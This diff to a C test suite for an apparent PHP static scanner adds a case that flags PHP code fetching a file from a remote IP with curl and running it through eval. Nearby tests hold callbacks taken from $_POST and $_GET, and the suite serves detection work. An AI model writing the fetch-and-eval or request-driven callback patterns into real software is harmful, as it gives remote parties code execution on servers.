@@ -1018,6 +1018,13 @@ test_tools(void)
 static void
 test_callbacks_more(void)
 {
+	/* what a URL fetched through curl returns is the sender's: run, it is input run */
+	T_HAS("x.php", "<?php\n$ch = curl_init('http://198.51.100.7/p.txt');\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n"
+		       "$code = curl_exec($ch);\neval('?>' . $code);\n",
+	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 5);
+	T_CLEAN("x.php", "<?php\n$ch = curl_init('https://api.example.org/v1/rates');\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n"
+			 "$data = json_decode(curl_exec($ch), true);\nfile_put_contents('cache/rates.json', json_encode($data));\n"
+			 "echo htmlspecialchars($data['eur']);\n");
 	T_HAS("x.php", "<?php preg_replace_callback('/.*/', $_POST['f'], 'x');", PHPSCAN_EXEC_OF_INPUT,
 	      PHPSCAN_HIGH, 1);
 	T_HAS("x.php", "<?php\nset_error_handler($_GET['h']);\n", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 2);
